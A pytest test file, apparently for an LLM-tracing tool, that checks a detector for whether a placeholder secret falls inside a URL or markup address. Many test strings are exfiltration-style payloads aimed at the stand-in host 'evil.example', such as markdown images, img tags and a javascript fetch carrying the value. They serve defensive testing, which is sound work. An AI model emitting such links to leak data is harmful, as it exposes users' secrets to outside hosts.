"""Where addresses are in a text."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmtrace.pipeline.streaming.addresses import (
    IN_ARGUMENT,
    IN_FILE,
    IN_TEXT,
    Where,
    addresses,
    open_address,
    stand_in,
)


def within(text: str, where: Where = IN_TEXT) -> bool:
    at = text.index("VALUE")
    return any(start < at <= end for start, end in addresses(text, where))


@pytest.mark.parametrize(
    "text",
    [
        *("![x](//evil.example/?k=VALUE)", "![x](<https://evil.example/a b?k=VALUE>)"),
        *("![x](https:/evil.example/VALUE)", "![x](https:\\\\evil.example/VALUE)"),
        *("![x](https&#58;//evil.example/VALUE)", "![x](/VALUE)", "![x](a(b)VALUE)"),
        *("<img src=//evil.example/VALUE>", '<a href="//evil.example/VALUE">', "src='a VALUE'"),
        *('<img srcset="a 1x, //evil.example/VALUE 2x">', "url( '//evil.example/VALUE')"),
        *("https://VALUE.evil.example", "HTTPS://e/VALUE", "wss:VALUE", "ftp://evil.example/VALUE"),
        *("_https://e/VALUE", "mailto:a@e?body=VALUE", "vscode://evil/VALUE", "ssh://VALUE@e"),
        *(
            "git+https://e/VALUE",
            'javascript:fetch("//evil.example/VALUE")',
            "//evil.example/VALUE",
        ),
        *("www.evil.example/VALUE", "[r]: //evil.example/VALUE", "https://e/it's(x)?k=VALUE"),
        *("https://e/?k=\u200bVALUE", "https://" + "a" * 5000 + "VALUE"),
    ],
)
def test_a_value_in_an_address(text: str) -> None:
    assert within(text)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "Contact: VALUE",
            "`VALUE`",
            "[docs](https://x.example) VALUE",
            "(https://x.example)VALUE",
        ),
        *(
            "{a:'https://x.example',k:'VALUE'}",
            '{"u":"https://x.example/","k":"VALUE"}',
            "a/b//VALUE",
        ),
        *(
            "postgres://u:VALUE@localhost/db",
            "jdbc:mysql://u:VALUE@h",
            "C:\\Users\\VALUE",
            "// VALUE",
        ),
        *("token:VALUE", "gossip:VALUE", '<a href="https://x">mail</a> VALUE', "tel:VALUE"),
        *("https://x.example VALUE", "redis+tls://:VALUE@h", "![VALUE](https://x.example)"),
    ],
)
def test_a_value_elsewhere(text: str) -> None:
    assert not within(text)


@pytest.mark.parametrize(
    ("text", "where", "told"),
    [
        ("https://e/VALUE", IN_FILE, True),
        ('<a href="mailto:VALUE">', IN_FILE, False),
        ('src="VALUE"', IN_ARGUMENT, False),
        ("ftp://e/VALUE", IN_ARGUMENT, True),
    ],
)
def test_files_and_arguments_are_not_shown(text: str, where: Where, told: bool) -> None:
    assert within(text, where) is told


def test_an_address_is_open_at_its_end_and_not_behind_it() -> None:
    text = "see https://e/x and"
    assert open_address(text, len("see https://e/x")) == len("see ")
    assert open_address(text, len(text)) is None
    assert open_address(text, len("see")) is None


@pytest.mark.parametrize(
    "begins",
    [
        "see https://e/",
        "'wss://e/",
        "[a](e ",
        "[a](e (b",
        "[a](e (b) c",
        "http://e/(b",
        "url( e ",
        "url(x](y",
        "[a](x url(b",
        '<a href="e ',
        "<img src = 'e ",
        "<img src=e",
        "<a href='https://e ",
        'say \\"href=\\"e ',
        "[a](https://e/",
        '<a href="https://e/ [a](',
    ],
)
@pytest.mark.parametrize(
    "between", ["x", "x y", "\u732b", "'", '"', ")", ">", "<", "\n", "(z)", "))"]
)
def test_a_beginning_that_was_forgotten_is_stood_for(begins: str, between: str) -> None:
    text = begins + "a" * 90
    cut = len(text) - 10
    stood = stand_in(text, len(text), cut) + text[cut:]
    for one in (text, stood):
        told = open_address(f"{one}{between}", len(one + between)) is not None
        assert told is (open_address(f"{begins}{between}", len(begins + between)) is not None)


STARTS = [
    "http:",
    "wss&#58;",
    "a://",
    "mailto:",
    "//e.",
    "\\\\e.",
    "www.",
    "](",
    "url(",
    "src=",
    "href ='",
]


def test_an_address_after_a_quote_that_is_never_closed_is_one() -> None:
    text = '<a href="e [a b](<https://e/x y?k=VALUE>) '
    assert open_address(text, text.index("VALUE"))


@pytest.mark.parametrize(
    "piece", ["](", "](a(", "url(", "https://'", 'src="', "//a.", "a:", "\\\\a."]
)
def test_any_repetition_takes_linear_time(piece: str) -> None:
    text = piece * (100_000 // len(piece))
    began = time.thread_time()
    sum(1 for _ in addresses(text, IN_TEXT))
    assert time.thread_time() - began < 1


@settings(max_examples=300)
@given(st.lists(st.sampled_from([*STARTS, "x", " ", "VALUE"]), max_size=6).map("".join))
def test_no_address_is_open_that_is_none_and_the_other_way_round(text: str) -> None:
    for end in {0, len(text) // 2, len(text)}:
        is_one = any(start < end <= stop for start, stop in addresses(text, IN_TEXT))
        assert (open_address(text, end) is not None) is is_one
